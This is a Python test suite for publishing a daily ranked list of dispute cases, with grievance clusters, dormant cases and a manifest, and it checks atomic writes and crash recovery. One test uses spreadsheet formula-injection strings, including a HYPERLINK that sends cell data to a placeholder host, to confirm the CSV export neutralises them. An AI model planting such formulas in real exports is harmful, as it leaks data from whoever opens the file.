"""Publishing: atomic file replacement, deterministic bytes, the store's list, the manifest."""

from __future__ import annotations

import io
import json
import os
import pickle
import signal
import subprocess
import sys
import time
from datetime import date
from pathlib import Path
from typing import BinaryIO

import pandas as pd
import pytest

from contracts.records import LIST_COLUMNS, check_list
from contracts.routing import ROUTING_COLUMNS, assign_units, assignment_rows, load_routing
from contracts.settings import Settings
from features.grievances import empty_clusters
from pipelines.day_list import input_fingerprint, list_audit
from pipelines.grievance_flow import published_grievances
from tests.builders import make_sources
from warehouse import atomic_files, tables
from warehouse import lists as publishing
from warehouse.atomic_files import write_atomic, write_atomic_with
from warehouse.dashboard_tables import assignments
from warehouse.lists import (
    dormant_bytes,
    list_bytes,
    manifest,
    previous_assignments,
    publish_day,
    publish_grievances,
    publish_list,
    published_grievance_dates,
    read_latest,
    read_list,
    read_pointer,
    table_bytes,
)
from warehouse.store import Warehouse

AS_OF = date(2025, 3, 1)


def _grievances() -> pd.DataFrame:
    """One published surge touching both listed cases."""
    row = {
        "cluster_id": "Gabc",
        "thing": "宏达服装厂",
        "thing_kind": "company",
        "district": "东湖区",
        "category": "劳资纠纷",
        "calls": 9,
        "distinct_callers": 7,
        "new_callers": 6,
        "prior_calls": 1,
        "growth": 9.0,
        "cases_opened": 1,
        "size": 10,
        "cases": 2,
        "case_ids": ("A", "B"),
        "open_case_ids": ("A", "B"),
        "first_seen": pd.Timestamp("2025-02-20 10:00"),
        "usual": 1.0,
        "p_value": 8e-5,
        "surge": True,
        "surge_reason": "7位来电人反映宏达服装厂，远高于平常（约1人）",
        "summary": "劳资纠纷：欠薪 8次",
    }
    frame = pd.concat([empty_clusters(), pd.DataFrame([row])], ignore_index=True).astype(
        empty_clusters().dtypes
    )
    return published_grievances(frame)


def _listed() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "rank": [1, 2],
            "case_id": ["A", "B"],
            "district": ["东湖区", "江北区"],
            "town": ["湖滨街道", None],
            "category": ["劳资纠纷", "邻里纠纷"],
            "opened_at": pd.to_datetime(["2025-01-01 09:00", "2025-02-01 00:00"]).astype("datetime64[us]"),
            "score": [0.31, 0.05],
            "band": ["high", "low"],
            "reasons": ["近7天关联热线来电3次", "无明显升高风险的因素"],
            "model_version": "fengqiao-escalation/v1",
            "as_of": AS_OF,
        }
    )[list(LIST_COLUMNS)]


def test_list_rows_meet_the_contract() -> None:
    check_list(_listed())
    broken = _listed().assign(score=[0.31, 1.5])
    with pytest.raises(ValueError, match="list row 2, field score: Input should be less than or equal to 1"):
        check_list(broken)


def test_same_list_gives_identical_bytes() -> None:
    assert table_bytes(_listed()) == table_bytes(_listed().copy())
    assert table_bytes(_listed())["csv"].startswith("\ufeffrank,case_id".encode())


def test_publish_writes_files_store_and_manifest(tmp_path: Path) -> None:
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    settings = Settings(home=tmp_path, fairness_min_cases=1, list_top_fraction=0.5)
    audit = list_audit(_listed(), settings)
    grievances = _grievances()
    description = manifest(_listed(), AS_OF, "fengqiao-escalation/v1", "abc", settings, audit, grievances)
    paths = publish_list(_listed(), description, tmp_path / "lists", warehouse, grievances)
    assert sorted(p.name for p in (tmp_path / "lists").iterdir()) == [
        "2025-03-01.csv",
        "2025-03-01.grievances.csv",
        "2025-03-01.grievances.parquet",
        "2025-03-01.manifest.json",
        "2025-03-01.parquet",
    ]
    pd.testing.assert_frame_equal(pd.read_parquet(paths["grievances.parquet"]), grievances)
    stored_grievances = warehouse.read_table(tables.grievances)
    assert stored_grievances[["as_of", "cluster_id", "open_case_ids", "surge"]].to_dict("records") == [
        {"as_of": AS_OF, "cluster_id": "Gabc", "open_case_ids": "A,B", "surge": True}
    ]
    pd.testing.assert_frame_equal(pd.read_parquet(paths["parquet"]), _listed())
    stored = read_list(warehouse, AS_OF)
    assert stored["case_id"].tolist() == ["A", "B"]
    written = json.loads(paths["manifest"].read_text())
    assert written["bands"] == {"high": 1, "medium": 0, "low": 1}
    assert written["cases"] == 2
    groups = {(g["attribute"], g["group"]): g for g in written["fairness"]["groups"]}
    assert groups[("district", "东湖区")]["n_listed"] == 1
    assert groups[("district", "东湖区")]["share_listed_ratio"] == 2.0
    assert groups[("district", "江北区")]["share_listed"] == 0.0
    assert written["fairness"]["listed_means"] == "in the top 50% of the list"
    assert written["grievances"]["clusters"] == 1
    assert written["grievances"]["surges"] == 1


def test_a_failed_write_leaves_the_previous_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "list.csv"
    write_atomic(target, b"old complete list")

    def crash(*_args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(atomic_files.os, "replace", crash)
    with pytest.raises(OSError, match="disk full"):
        write_atomic(target, b"new list, half written")
    assert target.read_bytes() == b"old complete list"
    assert [p.name for p in tmp_path.iterdir()] == ["list.csv"]


def test_a_streamed_write_that_fails_halfway_leaves_the_previous_file_and_no_temporary(
    tmp_path: Path,
) -> None:
    target = tmp_path / "copy.arrow"
    write_atomic(target, b"old complete copy")

    def half(handle: BinaryIO) -> None:
        handle.write(b"new copy, half wri")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_atomic_with(target, half)
    assert target.read_bytes() == b"old complete copy"
    assert [p.name for p in tmp_path.iterdir()] == ["copy.arrow"]
    write_atomic_with(target, lambda handle: handle.write(b"new complete copy"))
    assert target.read_bytes() == b"new complete copy"


def test_fingerprint_changes_with_any_record_version() -> None:
    base = make_sources(
        [{"case_id": "A", "opened_at": "2025-01-01", "district": "东湖区", "category": "其他"}], [], []
    )
    changed = make_sources(
        [{"case_id": "A", "opened_at": "2025-01-01", "district": "东湖区", "category": "婚姻家庭"}], [], []
    )
    assert input_fingerprint(base) == input_fingerprint(base)
    assert input_fingerprint(base) != input_fingerprint(changed)


FORMULAS = ['=HYPERLINK("http://x/?d="&B2,"详情")', "@A1", "+1+1", "-2+3"]


def test_list_csv_cells_are_neutralised_and_the_parquet_keeps_the_values() -> None:
    listed = pd.concat([_listed()] * 2, ignore_index=True).assign(
        rank=[1, 2, 3, 4],
        case_id=FORMULAS,
        town=["\t=1+1", "\r@x", "湖滨街道", None],
        score=[-0.0, 0.5, 1, 0],
    )
    files = table_bytes(listed)
    csv = pd.read_csv(io.BytesIO(files["csv"]), encoding="utf-8-sig", keep_default_na=False)
    assert csv["case_id"].tolist() == ["'" + f for f in FORMULAS]
    assert csv["town"].tolist() == ["'\t=1+1", "'\r@x", "湖滨街道", ""]
    assert csv["score"].tolist() == [-0.0, 0.5, 1.0, 0.0] and csv["rank"].tolist() == [1, 2, 3, 4]
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(files["parquet"])), listed)


def _day(as_of: date, tmp_path: Path) -> tuple[pd.DataFrame, dict]:
    """A day's list and its manifest (with one dormant case)."""
    listed = _listed().assign(as_of=as_of)
    settings = Settings(home=tmp_path, fairness_min_cases=1)
    description = manifest(
        listed,
        as_of,
        "fengqiao-escalation/v1",
        "abc",
        settings,
        list_audit(listed, settings),
        _grievances(),
        DORMANT,
    )
    return listed, description


DORMANT = pd.DataFrame(
    {
        "case_id": ["Z"],
        "district": ["东湖区"],
        "category": ["劳资纠纷"],
        "opened_at": pd.to_datetime(["2024-01-01 09:00"]),
        "last_activity_at": pd.to_datetime(["2024-06-01 09:00"]),
        "days_inactive": [273],
    }
)
OLD_DAY, NEW_DAY = date(2025, 3, 1), date(2025, 3, 2)
CHILD = """
import os, pickle, sys, time
from pathlib import Path
from warehouse import atomic_files
from warehouse import lists as publishing
from warehouse.lists import publish_day
from warehouse.store import Warehouse

point, count, folder = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
calls = {"n": 0}

def hang():
    (folder / "reached").write_text("yes")
    time.sleep(120)

def hooked(real):
    def call(*args):
        calls["n"] += 1
        if calls["n"] == count:
            hang()
        return real(*args)
    return call

if point == "store":
    publishing.replace_list = lambda *args: hang()
else:
    setattr(atomic_files.os, point, hooked(getattr(os, point)))
warehouse = Warehouse(f"sqlite:///{folder / 'w.db'}")
listed, description, grievances, dormant = pickle.loads((folder / "day.pickle").read_bytes())
publish_day(listed, description, folder / "lists", warehouse, grievances, dormant=dormant)
"""
# (hooked call, its number): staging the first file, staging the third, in the store's transaction,
# renaming the manifest (the list files are renamed by then), moving `latest`.
KILLS = {
    "staging the list": ("fsync", 1),
    "staging the grievances": ("fsync", 3),
    "store transaction": ("store", 0),
    "manifest rename": ("replace", 6),
    "latest pointer": ("replace", 7),
}


@pytest.mark.parametrize("point", list(KILLS))
def test_a_publish_killed_mid_write_leaves_no_partial_file_and_the_next_cleans_up(
    point: str, tmp_path: Path
) -> None:
    lists = tmp_path / "lists"
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    old_list, old_description = _day(OLD_DAY, tmp_path)
    publish_day(old_list, old_description, lists, warehouse, _grievances(), dormant=DORMANT)
    new_list, new_description = _day(NEW_DAY, tmp_path)
    day = (new_list, new_description, _grievances(), DORMANT)
    (tmp_path / "day.pickle").write_bytes(pickle.dumps(day))
    hook, count = KILLS[point]
    root = Path(__file__).resolve().parents[1]
    child = subprocess.Popen([sys.executable, "-c", CHILD, hook, str(count), str(tmp_path)], cwd=root)
    try:
        deadline = time.monotonic() + 120
        while not (tmp_path / "reached").exists():
            assert child.poll() is None, f"the publishing child ended ({child.returncode}) before {point}"
            assert time.monotonic() < deadline, f"the publishing child never reached {point}"
            time.sleep(0.05)
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.kill()
        child.wait()
    assert child.returncode == -signal.SIGKILL
    pointer, shown = read_latest(lists)
    assert pointer["as_of"] == OLD_DAY.isoformat()
    pd.testing.assert_frame_equal(shown, old_list)
    expected = {
        f"{NEW_DAY}.parquet": list_bytes(new_list, "zh")["parquet"],
        f"{NEW_DAY}.csv": list_bytes(new_list, "zh")["csv"],
        f"{NEW_DAY}.grievances.parquet": table_bytes(_grievances())["parquet"],
        f"{NEW_DAY}.grievances.csv": table_bytes(_grievances())["csv"],
        f"{NEW_DAY}.dormant.parquet": dormant_bytes(DORMANT),
    }
    for name, payload in expected.items():  # a file under its final name is whole, or absent
        path = lists / name
        assert not path.exists() or path.read_bytes() == payload, name
    if point.startswith("staging"):
        assert not [p for p in lists.iterdir() if p.name.startswith(str(NEW_DAY))]
    leftovers = [p.name for p in lists.iterdir() if p.name.endswith(".tmp")]
    assert all(name.endswith(f".{child.pid}.tmp") for name in leftovers)
    assert leftovers or point == "store transaction"
    publish_day(new_list, new_description, lists, warehouse, _grievances(), dormant=DORMANT)
    pointer, shown = read_latest(lists)
    assert pointer["as_of"] == NEW_DAY.isoformat()
    pd.testing.assert_frame_equal(shown, new_list)
    assert not [p.name for p in lists.iterdir() if p.name.endswith(".tmp")]
    assert {name: (lists / name).read_bytes() for name in expected} == expected


def test_dormant_cases_are_published_beside_the_list_and_counted(tmp_path: Path) -> None:
    listed, description = _day(AS_OF, tmp_path)
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    paths = publish_day(listed, description, tmp_path / "lists", warehouse, _grievances(), dormant=DORMANT)
    assert paths["dormant"].name == "2025-03-01.dormant.parquet"
    pd.testing.assert_frame_equal(pd.read_parquet(paths["dormant"]), DORMANT)
    written = json.loads(paths["manifest"].read_text())
    assert (written["dormant_cases"], written["dormant_days"], written["empty_reason"]) == (1, 180, None)


def test_an_empty_list_says_why() -> None:
    settings = Settings(home=Path("unused"))
    empty = _listed().iloc[:0]
    audit = list_audit(_listed(), settings)
    grievances = _grievances()
    only_dormant = manifest(empty, AS_OF, "v", "abc", settings, audit, grievances, DORMANT)
    nothing_open = manifest(empty, AS_OF, "v", "abc", settings, audit, grievances, DORMANT.iloc[:0])
    assert only_dormant["cases"] == 0 and only_dormant["empty_reason"] == (
        "no open case was active in the 180 days before 2025-03-01: all 1 open cases are dormant "
        "and listed apart"
    )
    assert nothing_open["empty_reason"] == "no case was open at 2025-03-01"


def test_grievances_published_alone_replace_only_their_files_and_rows(tmp_path: Path) -> None:
    """Grievances republished for a day with a list: their files and store rows change; the list, its
    manifest, its store rows and `latest` do not."""
    lists, warehouse = tmp_path / "lists", Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    listed, description = _day(AS_OF, tmp_path)
    publish_day(listed, description, lists, warehouse, _grievances(), dormant=DORMANT)
    kept = {p.name: p.read_bytes() for p in lists.iterdir() if ".grievances." not in p.name}
    pointer = read_pointer(lists)
    calmer = _grievances().assign(surge=False, surge_reason="")
    paths = publish_grievances(calmer, AS_OF, lists, warehouse)
    assert {name: path.name for name, path in paths.items()} == {
        "grievances.parquet": "2025-03-01.grievances.parquet",
        "grievances.csv": "2025-03-01.grievances.csv",
    }
    assert {name: path.read_bytes() for name, path in paths.items()} == {
        f"grievances.{suffix}": payload for suffix, payload in table_bytes(calmer).items()
    }
    assert {name: (lists / name).read_bytes() for name in kept} == kept and read_pointer(lists) == pointer
    assert read_list(warehouse, AS_OF)["case_id"].tolist() == ["A", "B"]
    stored = warehouse.read_table(tables.grievances)
    assert stored[["as_of", "cluster_id", "surge"]].to_dict("records") == [
        {"as_of": AS_OF, "cluster_id": "Gabc", "surge": False}
    ]
    publish_grievances(calmer.iloc[:0], NEW_DAY, lists, warehouse)  # a day without any grievance
    assert published_grievance_dates(lists) == [NEW_DAY, AS_OF]
    assert len(warehouse.read_table(tables.grievances)) == 1
    assert read_pointer(lists) == pointer


@pytest.mark.parametrize("failure", ["staging a file", "the store"])
def test_grievances_published_alone_change_nothing_when_publishing_fails(
    failure: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lists, warehouse = tmp_path / "lists", Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    publish_grievances(_grievances(), AS_OF, lists, warehouse)
    files = {p.name: p.read_bytes() for p in lists.iterdir()}
    rows = warehouse.read_table(tables.grievances)

    def crash(*_args: object) -> None:
        raise OSError("disk full")

    if failure == "the store":
        monkeypatch.setattr(publishing, "append", crash)
    else:
        monkeypatch.setattr(atomic_files, "_stage", crash)
    with pytest.raises(OSError, match="disk full"):
        publish_grievances(_grievances().assign(surge=False), AS_OF, lists, warehouse)
    assert {p.name: p.read_bytes() for p in lists.iterdir()} == files
    pd.testing.assert_frame_equal(warehouse.read_table(tables.grievances), rows)


def _routed() -> tuple[pd.DataFrame, pd.DataFrame]:
    """The list with who acts (the shipped routing), and its assignments as the store keeps them."""
    table = load_routing(None).table
    routed = assign_units(_listed(), table, AS_OF)
    return routed, assignment_rows(routed, table)


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_list_csv_is_in_the_list_language_and_the_parquet_keeps_the_contract(
    language: str, tmp_path: Path
) -> None:
    routed, assigned = _routed()
    description = {"as_of": AS_OF.isoformat(), "model_version": "m/v1", "language": language}
    paths = publish_day(
        routed,
        description,
        tmp_path / "lists",
        Warehouse(f"sqlite:///{tmp_path / 'w.db'}"),
        _grievances(),
        assignments=assigned,
    )
    pd.testing.assert_frame_equal(pd.read_parquet(paths["parquet"]), routed)
    assert list(routed.columns) == [*LIST_COLUMNS, *ROUTING_COLUMNS]
    people = pd.read_csv(paths["csv"], encoding="utf-8-sig", keep_default_na=False)
    if language == "zh":
        assert list(people.columns) == [
            "排名",
            "案件编号",
            "区县",
            "乡镇/街道",
            "纠纷类型",
            "登记时间",
            "风险概率",
            "风险等级",
            "主要原因",
            "模型版本",
            "名单日期",
            "责任单位",
            "交办日期",
            "办理期限",
        ]
        assert people["风险等级"].tolist() == ["高", "低"]
        assert people["责任单位"].tolist() == ["东湖区矛调中心", ""]
        assert people["办理期限"].tolist() == ["2025-03-03", ""]
    else:
        assert list(people.columns) == [*LIST_COLUMNS, *ROUTING_COLUMNS]
        assert people["band"].tolist() == ["high", "low"] and people["unit"].tolist() == [
            "东湖区矛调中心",
            "",
        ]
    assert paths["csv"].read_bytes() == list_bytes(routed, language)["csv"]


def test_who_acts_is_stored_with_the_list_replaced_with_it_and_read_back_by_the_next_day(
    tmp_path: Path,
) -> None:
    warehouse, lists = Warehouse(f"sqlite:///{tmp_path / 'w.db'}"), tmp_path / "lists"
    routed, assigned = _routed()
    description = {"as_of": AS_OF.isoformat(), "model_version": "m/v1"}
    publish_day(routed, description, lists, warehouse, _grievances(), assignments=assigned)
    stored = warehouse.read_table(assignments)
    assert stored.drop(columns="as_of").to_dict("records") == assigned.to_dict("records")
    assert stored["as_of"].tolist() == [AS_OF]
    assert previous_assignments(warehouse, NEW_DAY).to_dict("records") == assigned.to_dict("records")
    assert previous_assignments(warehouse, AS_OF).empty  # nothing was published before
    publish_day(_listed(), description, lists, warehouse, _grievances())  # the day again, unrouted
    assert warehouse.read_table(assignments).empty and previous_assignments(warehouse, NEW_DAY).empty


@pytest.mark.parametrize("failure", ["staging a file", "the store"])
def test_a_day_republished_changes_nothing_when_publishing_fails(
    failure: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rerun of the latest day that fails (a disk or a store error) leaves its files, its store rows and
    `latest` as the first run published them."""
    lists, warehouse = tmp_path / "lists", Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
    listed, description = _day(AS_OF, tmp_path)
    publish_day(listed, description, lists, warehouse, _grievances(), dormant=DORMANT)
    files = {p.name: p.read_bytes() for p in lists.iterdir()}
    stored = {table.name: warehouse.read_table(table) for table in (tables.lists, tables.grievances)}

    def crash(*_args: object) -> None:
        raise OSError("disk full")

    if failure == "the store":
        monkeypatch.setattr(publishing, "append", crash)
    else:
        monkeypatch.setattr(atomic_files, "_stage", crash)
    rescored, calmer = listed.assign(score=listed["score"] / 2), _grievances().assign(surge=False)
    with pytest.raises(OSError, match="disk full"):
        publish_day(rescored, description, lists, warehouse, calmer, dormant=DORMANT)
    assert {p.name: p.read_bytes() for p in lists.iterdir()} == files
    for table in (tables.lists, tables.grievances):
        pd.testing.assert_frame_equal(warehouse.read_table(table), stored[table.name])
